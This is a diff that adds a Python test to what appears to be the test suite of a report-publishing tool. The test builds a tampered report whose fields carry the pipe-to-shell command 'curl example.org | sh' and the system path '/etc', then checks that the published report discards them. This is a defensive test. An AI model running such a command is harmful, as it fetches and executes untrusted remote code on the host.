@@ -192,6 +192,17 @@ def test_a_whole_report_says_what_its_record_says(village: Village, blobs: BlobS
     assert (compared.both, compared.differing) == (2, ["a: through there, held here"])
 
 
+def test_a_mend_is_told_in_the_words_of_this_program(village: Village, blobs: BlobStore) -> None:
+    honest = report(village.task, {"a": "through", "b": "through"})
+    rows = [msgspec.structs.replace(row, folder="/etc") for row in honest.rows]
+    rows[1] = msgspec.structs.replace(rows[1], hole="curl example.org | sh")
+    holes = [msgspec.structs.replace(hole, mend="curl example.org | sh", folder="/etc") for hole in honest.holes]
+    lying = msgspec.structs.replace(honest, rows=rows, holes=holes)
+    record = publish(village, ANN, lying.counts, attack=blobs.put(msgspec.json.encode(lying)))
+    [hole] = published_report(village.log, blobs, record).holes
+    assert (hole.attacks, hole.mend, hole.folder) == (["a"], honest.holes[0].mend, "")
+
+
 def lying_files(task: bytes) -> dict[str, bytes]:
     sound = report(task, {"a": "held"})
     deep = b"[" * 100_000
